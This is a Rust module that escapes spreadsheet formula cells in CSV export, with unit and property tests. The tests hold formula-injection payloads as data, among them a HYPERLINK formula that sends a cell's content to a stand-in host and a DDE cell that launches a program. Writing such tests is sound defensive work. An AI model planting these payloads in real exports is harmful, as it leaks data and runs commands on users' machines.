//! Tables for spreadsheets: comma-separated values (RFC 4180) that run nothing (CWE-1236).
//!
//! **The rule.** A spreadsheet program runs a cell that begins with `=`, `+`, `-` or `@`, with their full-width siblings, or with a
//! tab or a line break before them. Such a cell gets an apostrophe in front, which these programs take for the sign that text follows;
//! blanks, apostrophes and invisible characters in front of the sign do not count. To read a cell again, take one apostrophe off the
//! front wherever the rule would put one there. Every cell is in quotation marks, so that a separator inside begins no new one.

use crate::reach::is_invisible;
use thiserror::Error;

/// Tells a spreadsheet that the text is UTF-8.
const MARK: &str = "\u{feff}";

/// How many characters a cell of a spreadsheet holds, counted as UTF-16; what is longer is cut there by the program that opens it.
pub const LONGEST_CELL: usize = 32_767;

/// What stands between two cells. Programs of countries that write a decimal comma expect semicolons.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Separator {
    /// `,`.
    #[default]
    Comma,
    /// `;`.
    Semicolon,
}

impl Separator {
    const fn byte(self) -> u8 {
        match self {
            Self::Comma => b',',
            Self::Semicolon => b';',
        }
    }
}

/// Why a table cannot be written or read.
#[derive(Debug, Error)]
pub enum TableError {
    /// The text is no table, or memory gave out.
    #[error("The table cannot be written or read: {0}.")]
    Csv(#[from] csv::Error),
    /// What was written does not read back as it was: a mistake of this program.
    #[error("The table does not read back as it was written, at row {row}.")]
    Unequal {
        /// The row, from 1.
        row: usize,
    },
}

/// A written table.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Csv {
    /// The text: a byte order mark, every cell in quotation marks, CR LF after each row.
    pub text: String,
    /// How many cells are longer than [`LONGEST_CELL`]. They are whole in the file.
    pub long: u32,
}

/// Writes rows as CSV; [`read_csv`] gives the same words back.
///
/// # Errors
/// [`TableError`]; what was written is read again before anybody gets it.
pub fn write_csv(rows: &[Vec<String>], separator: Separator) -> Result<Csv, TableError> {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .quote_style(csv::QuoteStyle::Always)
        .delimiter(separator.byte())
        .flexible(true)
        .from_writer(Vec::new());
    let mut long = 0_u32;
    for row in rows {
        let cells: Vec<String> = row.iter().map(|cell| harmless(cell)).collect();
        long = cells
            .iter()
            .filter(|cell| cell.encode_utf16().count() > LONGEST_CELL)
            .fold(long, |sum, _| sum.saturating_add(1));
        writer.write_record(cells)?;
    }
    let bytes = writer.into_inner().map_err(|error| csv::Error::from(error.into_error()))?;
    let text = format!("{MARK}{}", String::from_utf8_lossy(&bytes));
    let read = read_csv(&text, separator)?;
    if let Some(row) = (0..rows.len().max(read.len())).find(|row| rows.get(*row) != read.get(*row)) {
        return Err(TableError::Unequal { row: row + 1 });
    }
    Ok(Csv { text, long })
}

/// Reads what [`write_csv`] wrote, the apostrophes of its rule taken off.
///
/// # Errors
/// [`TableError::Csv`] where a row cannot be read.
pub fn read_csv(text: &str, separator: Separator) -> Result<Vec<Vec<String>>, TableError> {
    let text = text.strip_prefix(MARK).unwrap_or(text);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(separator.byte())
        .from_reader(text.as_bytes());
    let mut rows = Vec::new();
    for row in reader.records() {
        rows.push(row?.iter().map(as_written).collect());
    }
    Ok(rows)
}

/// Puts an apostrophe before a cell that a spreadsheet would run.
fn harmless(cell: &str) -> String {
    if acts(cell) { format!("'{cell}") } else { cell.to_owned() }
}

/// Takes the apostrophe off again.
fn as_written(cell: &str) -> String {
    match cell.strip_prefix('\'') {
        Some(rest) if acts(rest) => rest.to_owned(),
        _ => cell.to_owned(),
    }
}

/// Tells whether a spreadsheet might run a cell, whatever blanks and apostrophes are before the sign; a tab or a line break at the
/// beginning is enough.
fn acts(cell: &str) -> bool {
    let blank = |letter: char| letter == '\'' || letter.is_whitespace() || letter.is_control() || is_invisible(letter);
    let sign = cell.trim_start_matches(blank);
    let begins = cell.trim_start_matches('\'').starts_with(['\t', '\r', '\n']);
    begins || sign.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−', '⁺', '⁻', '⁼'])
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn one_cell(cell: &str) -> String {
        let written = write_csv(&[vec![cell.to_owned(), String::new()]], Separator::Comma).unwrap().text;
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(written.as_bytes());
        let row = reader.records().next().unwrap().unwrap();
        row.get(0).unwrap().to_owned()
    }

    #[test]
    fn e01_a_cell_that_would_be_run_is_text() {
        for cell in [
            "=HYPERLINK(\"http://x.example/?d=\"&A2,\"Ana\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+Planner",
            "- one\n- two",
            "\tindented",
            "\rbreak",
            "\n=1",
            "＝1+1",
            "＋1",
            "－1",
            "＠x",
            " =1+1",
            "\u{200b}=1+1",
            "\u{feff}-1",
            "'=1+1",
            "'' =1",
            "\u{a0}+49 30",
        ] {
            assert_eq!(one_cell(cell), format!("'{cell}"), "{cell:?}");
        }
        for cell in ["", "Ana", "'tis", "1-2", "a=b", "2026-12-01", "(+49)", "' Ana", " - ".trim()] {
            let expected = if cell == "-" { "'-" } else { cell };
            assert_eq!(one_cell(cell), expected, "{cell:?}");
        }
    }

    #[test]
    fn a_cell_that_a_spreadsheet_cuts_is_counted_and_whole() {
        let rows =
            vec![vec!["x".repeat(LONGEST_CELL), "x".repeat(LONGEST_CELL + 1), "😀".repeat(LONGEST_CELL / 2 + 1)]];
        let written = write_csv(&rows, Separator::Comma).unwrap();
        assert_eq!(written.long, 2);
        assert_eq!(read_csv(&written.text, Separator::Comma).unwrap(), rows);
    }

    proptest! {
        #[test]
        fn what_is_written_is_read_again_and_no_cell_acts(
            rows in prop::collection::vec(prop::collection::vec(prop_oneof![any::<String>(), "['\t\r\n =+@;,\"\u{200b}－-]{0,4}[a=\n]{0,3}"], 2..5), 1..6),
            separator in prop::sample::select(vec![Separator::Comma, Separator::Semicolon]),
        ) {
            let written = write_csv(&rows, separator).unwrap();
            prop_assert!(written.text.starts_with(MARK));
            prop_assert_eq!(read_csv(&written.text, separator).unwrap(), rows);
            let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).delimiter(separator.byte()).from_reader(written.text.as_bytes());
            for row in reader.records() {
                for cell in row.unwrap().iter() {
                    prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']), "{:?}", cell);
                }
            }
        }
    }
}
